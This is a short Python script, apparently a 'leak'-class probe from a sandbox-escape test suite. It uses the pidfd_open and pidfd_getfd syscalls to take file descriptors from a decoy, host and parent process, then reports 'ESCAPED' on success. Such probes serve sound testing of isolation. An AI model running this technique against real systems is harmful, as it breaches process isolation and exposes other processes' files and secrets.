# class: leak
# Takes over descriptors of other processes of this user.
import ctypes,os
l=ctypes.CDLL(None,use_errno=True); ok=[]
for p in (CANARY["decoy_pid"],CANARY.get("host_pid",1),os.getppid()):
    h=l.syscall(434,p,0); f=l.syscall(438,h,1,0) if h>=0 else -1
    if f>=0: ok.append(p); os.close(f)
print("ESCAPED %s"%ok if ok else "no errno %d"%ctypes.get_errno())
